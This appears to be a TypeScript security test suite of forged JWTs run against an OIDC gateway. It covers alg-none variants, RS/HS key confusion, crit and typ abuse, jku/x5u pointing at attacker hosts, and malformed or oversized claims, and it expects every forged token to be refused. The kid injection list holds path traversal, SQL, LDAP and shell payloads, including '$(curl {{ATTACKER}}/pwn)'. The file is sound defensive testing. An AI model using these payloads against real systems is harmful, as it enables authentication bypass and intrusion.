// Forged and tampered JWTs against the real `oidc` verification: alg none, RS/HS confusion, crit, typ,
// kid injection, jku/x5u/jwk/x5c pointing elsewhere, nested and JWE forms, huge and wrong claims.
import { FIXED_TIME } from '../../server/fixtures.js';
import type { TokenSpec } from '../forge.js';
import type { AttackCase, AttackCategory } from './types.js';

const refused = (name: string, token: TokenSpec, description?: string): AttackCase => ({
  name,
  request: { path: '/api/resource', token },
  expect: { status: 401, error: 'invalid_token', ...(description === undefined ? {} : { description }) },
});

const NONE = 'unsigned token (alg none) not allowed';
const HMAC = 'symmetric algorithm not allowed';
const ALG = 'algorithm not allowed';
const CRIT = 'unsupported critical header';
const TYP = 'token type not accepted';
const NO_KEY = 'signing key not found';
const SIG = 'signature invalid';
const MALFORMED = 'malformed token';
const NOBODY = 'no provider accepts this credential';
const UNKNOWN_ISSUER = 'token issuer not accepted';

const KID_INJECTIONS: readonly [string, string][] = [
  ['path traversal to /etc/passwd', '../../../../etc/passwd'],
  ['path traversal to /dev/null (empty key file)', '../../../../../../dev/null'],
  ['Windows path traversal', '..\\..\\..\\windows\\win.ini'],
  ['URL-encoded traversal', '%2e%2e%2f%2e%2e%2fetc%2fpasswd'],
  ['absolute file URL', 'file:///etc/passwd'],
  ['http URL of the attacker’s key set', '{{ATTACKER}}/jwks'],
  ['https URL elsewhere', 'https://evil.example/.well-known/jwks.json'],
  ['SQL: always-true OR', "' OR '1'='1"],
  ['SQL: UNION selecting a known secret', "x' UNION SELECT 'secret' --"],
  ['SQL: stacked DROP', 'k1; DROP TABLE keys; --'],
  ['shell command substitution', '$(curl {{ATTACKER}}/pwn)'],
  ['backticks', '`id`'],
  ['LDAP filter', '*)(uid=*))(|(uid=*'],
  ['NoSQL operator as text', '{"$ne": null}'],
  ['NUL byte after the real kid', 'k1\u0000'],
  ['real kid with trailing space', 'k1 '],
  ['real kid upper-cased', 'K1'],
  ['CRLF header injection', 'k1\r\nX-Injected: 1'],
  ['4 KiB kid', 'k'.repeat(4096)],
  ['prototype key', '__proto__'],
  ['constructor', 'constructor'],
  ['empty kid', ''],
];

export const jwtAttacks: AttackCategory = {
  name: 'forged JWTs against the oidc provider',
  cases: [
    // alg none and its spellings
    refused('alg none, empty signature', { header: { alg: 'none' }, sign: 'none' }, NONE),
    refused('alg None', { header: { alg: 'None' }, sign: 'none' }, NONE),
    refused('alg NONE', { header: { alg: 'NONE' }, sign: 'none' }, NONE),
    refused('alg nOnE', { header: { alg: 'nOnE' }, sign: 'none' }, NONE),
    refused('alg none with our valid RS256 signature appended', { header: { alg: 'none' }, sign: 'ours' }, NONE),
    refused('alg none without kid and typ', { header: { alg: 'none', kid: null, typ: null }, sign: 'none' }, NONE),
    refused('alg none, signature part dropped (two parts)', { header: { alg: 'none' }, sign: 'none', mutate: 'two-parts' }, NOBODY),
    refused('alg missing', { header: { alg: null }, sign: 'ours' }, ALG),
    refused('alg empty string', { header: { alg: '' }, sign: 'ours' }, ALG),
    refused('alg as a number', { header: { alg: 256 }, sign: 'ours' }, ALG),
    refused('alg as an array', { header: { alg: ['RS256'] }, sign: 'ours' }, ALG),
    refused('alg as an object', { header: { alg: { name: 'RS256' } }, sign: 'ours' }, ALG),
    refused('alg rs256 (wrong case)', { header: { alg: 'rs256' }, sign: 'ours' }, ALG),
    refused('alg RS256 with a trailing space', { header: { alg: 'RS256 ' }, sign: 'ours' }, ALG),
    // RS/HS key confusion
    refused('HS256 keyed with the public key PEM', { header: { alg: 'HS256' }, sign: 'hmac-public-pem' }, HMAC),
    refused('HS384 keyed with the public key PEM', { header: { alg: 'HS384' }, sign: 'hmac-public-pem', hmacBits: 384 }, HMAC),
    refused('HS512 keyed with the public key PEM', { header: { alg: 'HS512' }, sign: 'hmac-public-pem', hmacBits: 512 }, HMAC),
    refused('HS256 keyed with the public JWK JSON', { header: { alg: 'HS256' }, sign: 'hmac-public-jwk' }, HMAC),
    refused('HS256 keyed with the modulus n', { header: { alg: 'HS256' }, sign: 'hmac-public-n' }, HMAC),
    refused('HS256 keyed with the public key DER', { header: { alg: 'HS256' }, sign: 'hmac-public-der' }, HMAC),
    refused('HS256 without kid', { header: { alg: 'HS256', kid: null }, sign: 'hmac-public-pem' }, HMAC),
    refused('hs256 lower-case', { header: { alg: 'hs256' }, sign: 'hmac-public-pem' }, HMAC),
    refused('RS256 header, HMAC signature with the public key', { sign: 'hmac-public-pem' }, SIG),
    // other algorithms
    refused('RS512 (not configured) with our key', { header: { alg: 'RS512' }, sign: 'ours' }, ALG),
    refused('PS256 (not configured)', { header: { alg: 'PS256' }, sign: 'ours' }, ALG),
    refused('EdDSA (not configured)', { header: { alg: 'EdDSA' }, sign: 'garbage' }, ALG),
    refused('ES256 header against the RSA kid', { header: { alg: 'ES256' }, sign: 'garbage' }),
    refused('JWE algorithm RSA-OAEP in a JWS', { header: { alg: 'RSA-OAEP' }, sign: 'ours' }, ALG),
    refused('dir (JWE) as alg', { header: { alg: 'dir' }, sign: 'ours' }, ALG),
    // crit
    refused('crit naming an unknown extension', { header: { crit: ['x-unknown'], 'x-unknown': true }, sign: 'ours' }, CRIT),
    refused('crit naming a missing parameter', { header: { crit: ['exp'] }, sign: 'ours' }, CRIT),
    refused('crit b64=false (unencoded payload)', { header: { crit: ['b64'], b64: false }, sign: 'ours' }, CRIT),
    refused('crit empty array', { header: { crit: [] }, sign: 'ours' }, CRIT),
    refused('crit as a string', { header: { crit: 'x-unknown' }, sign: 'ours' }, CRIT),
    refused('crit null-ish (false)', { header: { crit: false }, sign: 'ours' }, CRIT),
    // typ
    refused('typ JWE', { header: { typ: 'JWE' }, sign: 'ours' }, TYP),
    refused('typ secevent+jwt (a security event token)', { header: { typ: 'secevent+jwt' }, sign: 'ours' }, TYP),
    refused('typ logout+jwt', { header: { typ: 'logout+jwt' }, sign: 'ours' }, TYP),
    refused('typ dpop+jwt (a DPoP proof)', { header: { typ: 'dpop+jwt' }, sign: 'ours' }, TYP),
    refused('typ application/jose', { header: { typ: 'application/jose' }, sign: 'ours' }, TYP),
    refused('typ empty', { header: { typ: '' }, sign: 'ours' }, TYP),
    refused('typ as a number', { header: { typ: 1 }, sign: 'ours' }, TYP),
    refused('typ as an array', { header: { typ: ['JWT'] }, sign: 'ours' }, TYP),
    refused('typ JWT with a NUL', { header: { typ: 'JWT\u0000' }, sign: 'ours' }, TYP),
    // kid injection (signed with the attacker's key, and with ours)
    ...KID_INJECTIONS.map(([what, kid]) => refused(`kid injection: ${what}`, { header: { kid }, sign: 'attacker' }, NO_KEY)),
    refused('kid injection with our own signature: path traversal', { header: { kid: '../../../../etc/passwd' }, sign: 'ours' }, NO_KEY),
    refused('kid injection with our own signature: attacker URL', { header: { kid: '{{ATTACKER}}/jwks' }, sign: 'ours' }, NO_KEY),
    refused('kid as a number', { header: { kid: 1 }, sign: 'attacker' }),
    refused('kid as an object', { header: { kid: { $ne: null } }, sign: 'attacker' }),
    refused('kid as an array', { header: { kid: ['k1'] }, sign: 'attacker' }),
    // keys named by the token itself are never fetched nor used
    refused('jku to the attacker’s key set (attacker-signed)', { header: { jku: '{{ATTACKER}}/jwks' }, sign: 'attacker' }, SIG),
    refused('jku to the attacker with an unknown kid', { header: { jku: '{{ATTACKER}}/jwks', kid: 'evil' }, sign: 'attacker' }, NO_KEY),
    refused('x5u to the attacker (attacker-signed)', { header: { x5u: '{{ATTACKER}}/cert.pem' }, sign: 'attacker' }, SIG),
    refused('x5u to the attacker with an unknown kid', { header: { x5u: '{{ATTACKER}}/cert.pem', kid: 'evil' }, sign: 'attacker' }, NO_KEY),
    refused('jku to the issuer’s host but another path', { header: { jku: '{{ISSUER}}/../attacker/jwks' }, sign: 'attacker' }, SIG),
    refused('jku with the issuer as userinfo of the attacker URL', { header: { jku: 'http://{{ISSUER}}@127.0.0.1:1/jwks' }, sign: 'attacker' }, SIG),
    refused('embedded jwk header with the attacker’s key', { header: { jwk: { kty: 'RSA', n: 'AQAB', e: 'AQAB' } }, sign: 'attacker' }, SIG),
    refused('embedded jwk without kid', { header: { jwk: { kty: 'RSA', n: 'AQAB', e: 'AQAB' }, kid: null }, sign: 'attacker' }, SIG),
    refused('x5c chain in the header', { header: { x5c: ['MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA'] }, sign: 'attacker' }, SIG),
    refused('x5t thumbprint only', { header: { x5t: 'AAAAAAAAAAAAAAAAAAAAAAAAAAA', kid: null }, sign: 'attacker' }, SIG),
    refused('no kid, attacker-signed', { header: { kid: null }, sign: 'attacker' }, SIG),
    // signature games
    refused('payload changed after signing (sub=admin)', { sign: 'ours', mutate: 'tamper-payload' }, SIG),
    refused('header changed after signing', { sign: 'ours', mutate: 'tamper-header' }, SIG),
    refused('signature truncated', { sign: 'ours', mutate: 'truncate-signature' }, SIG),
    refused('signature stripped', { sign: 'ours', mutate: 'strip-signature' }, SIG),
    refused('signature of another valid token', { sign: 'ours', mutate: 'swap-signature' }, SIG),
    refused('garbage signature', { sign: 'garbage' }, SIG),
    // nested, JWE and malformed compact forms
    refused('JWE compact form (5 parts)', { header: { alg: 'RSA-OAEP', enc: 'A256GCM' }, sign: 'ours', mutate: 'five-parts' }, NOBODY),
    refused('JWE compact form with alg dir', { header: { alg: 'dir', enc: 'A128CBC-HS256' }, sign: 'none', mutate: 'five-parts' }, NOBODY),
    refused('4 parts', { sign: 'ours', mutate: 'four-parts' }, NOBODY),
    refused('6 parts', { sign: 'ours', mutate: 'six-parts' }, NOBODY),
    refused('2 parts (no signature part)', { sign: 'ours', mutate: 'two-parts' }, NOBODY),
    refused('nested JWS: attacker-signed outer token wrapping a valid inner one (cty JWT)', { sign: 'ours', mutate: 'nested-jws' }, NOBODY),
    refused('standard base64 (+/) instead of base64url', { sign: 'ours', claims: { sub: '>>>???' }, mutate: 'standard-base64' }, NOBODY),
    refused('base64 padding on the token', { sign: 'ours', mutate: 'padded' }, NOBODY),
    refused('header is not JSON', { rawHeader: 'not json', sign: 'ours' }, MALFORMED),
    refused('payload is not JSON', { rawPayload: 'not json', sign: 'ours' }, NOBODY),
    refused('payload is a JSON array', { rawPayload: '["{{ISSUER}}"]', sign: 'ours' }, NOBODY),
    refused('payload is a JSON string', { rawPayload: '"{{ISSUER}}"', sign: 'ours' }, NOBODY),
    refused('header is a JSON array', { rawHeader: '["RS256"]', sign: 'ours' }, MALFORMED),
    refused('duplicate alg in the header JSON (none last)', { rawHeader: '{"alg":"RS256","kid":"k1","alg":"none"}', sign: 'none' }, NONE),
    refused('duplicate iss in the payload (ours last, attacker-signed)', { rawPayload: '{"iss":"https://x","iss":"{{ISSUER}}","sub":"a","aud":"api://portcullis","exp":9999999999}', sign: 'attacker' }, SIG),
    // claims: the signature is good, a claim is not
    refused('expired an hour ago', { claims: { exp: Math.floor(FIXED_TIME / 1000) - 3600 }, sign: 'ours' }),
    refused('exp missing', { claims: { exp: null }, sign: 'ours' }, 'token has no exp claim'),
    refused('exp as a string', { claims: { exp: '9999999999' }, sign: 'ours' }),
    refused('exp zero', { claims: { exp: 0 }, sign: 'ours' }, 'token expired'),
    refused('exp negative', { claims: { exp: -1 }, sign: 'ours' }, 'token expired'),
    refused('nbf far in the future', { claims: { nbf: 4102444800 }, sign: 'ours' }, 'token not yet valid'),
    refused('aud of another client', { claims: { aud: 'api://someone-else' }, sign: 'ours' }, 'audience not accepted'),
    refused('aud array without ours', { claims: { aud: ['api://a', 'api://b'] }, sign: 'ours' }, 'audience not accepted'),
    refused('aud missing', { claims: { aud: null }, sign: 'ours' }),
    refused('aud as an object', { claims: { aud: { $in: ['api://portcullis'] } }, sign: 'ours' }),
    refused('sub missing', { claims: { sub: null }, sign: 'ours' }, 'token has no sub claim'),
    refused('iss of another issuer (unverified routing refuses it)', { claims: { iss: 'https://evil.example' }, sign: 'ours' }, UNKNOWN_ISSUER),
    refused('iss with a trailing slash', { claims: { iss: '{{ISSUER}}/' }, sign: 'ours' }, UNKNOWN_ISSUER),
    refused('iss upper-cased', { claims: { iss: '{{ISSUER_UPPER}}' }, sign: 'ours' }, UNKNOWN_ISSUER),
    refused('iss as an array containing ours', { claims: { iss: ['{{ISSUER}}'] }, sign: 'ours' }, NOBODY),
    // huge claims
    refused('9 KiB groups claim, attacker-signed', { claims: { groups: Array.from({ length: 800 }, (_, i) => `admins-${i}`) }, sign: 'attacker' }, SIG),
    refused('deeply nested claim (2000 levels), attacker-signed', { rawPayload: `{"iss":"{{ISSUER}}","sub":"a","x":${'['.repeat(2000)}${']'.repeat(2000)}}`, sign: 'attacker' }, SIG),
    refused('11 KiB kid, attacker-signed', { header: { kid: 'k'.repeat(11 * 1024) }, sign: 'attacker' }, NO_KEY),
    refused('__proto__ claims (prototype pollution attempt), attacker-signed', { rawPayload: '{"iss":"{{ISSUER}}","sub":"a","__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}', sign: 'attacker' }, SIG),
    refused('1000 tiny claims, attacker-signed', { rawPayload: `{"iss":"{{ISSUER}}",${Array.from({ length: 1000 }, (_, i) => `"c${i}":1`).join(',')}}`, sign: 'attacker' }, SIG),
    {
      name: 'a token larger than the HTTP header limit: refused by the parser (431)',
      request: { path: '/api/resource', token: { claims: { pad: 'x'.repeat(20_000) }, sign: 'ours' } },
      expect: { status: 431, error: 'request_header_fields_too_large', audited: false },
    },
  ],
};

/** Tokens the gateway must accept: proof that the refusals above are not a provider that refuses everything. */
export const jwtControls: AttackCategory = {
  name: 'JWT controls (accepted)',
  cases: [
    { name: 'a valid RS256 token', request: { token: { sign: 'ours' } }, expect: { status: 200, error: 'authenticated', upstreamPath: '/api/resource' } },
    { name: 'typ at+jwt', request: { token: { header: { typ: 'at+jwt' }, sign: 'ours' } }, expect: { status: 200, error: 'authenticated' } },
    { name: 'typ application/at+jwt', request: { token: { header: { typ: 'application/at+jwt' }, sign: 'ours' } }, expect: { status: 200, error: 'authenticated' } },
    { name: 'no typ', request: { token: { header: { typ: null }, sign: 'ours' } }, expect: { status: 200, error: 'authenticated' } },
  ],
};
